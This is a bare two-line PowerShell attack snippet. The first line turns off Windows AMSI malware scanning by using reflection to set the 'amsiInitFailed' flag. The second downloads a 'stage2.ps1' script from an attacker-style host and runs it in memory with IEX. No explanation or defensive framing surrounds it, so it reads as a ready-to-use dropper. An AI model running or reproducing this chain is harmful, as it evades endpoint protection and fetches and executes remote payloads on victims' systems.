[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils").GetField("amsiInitFailed", "NonPublic,Static").SetValue($null, $true)
IEX (New-Object Net.WebClient).DownloadString("http://evil-cdn.example.com/stage2.ps1")
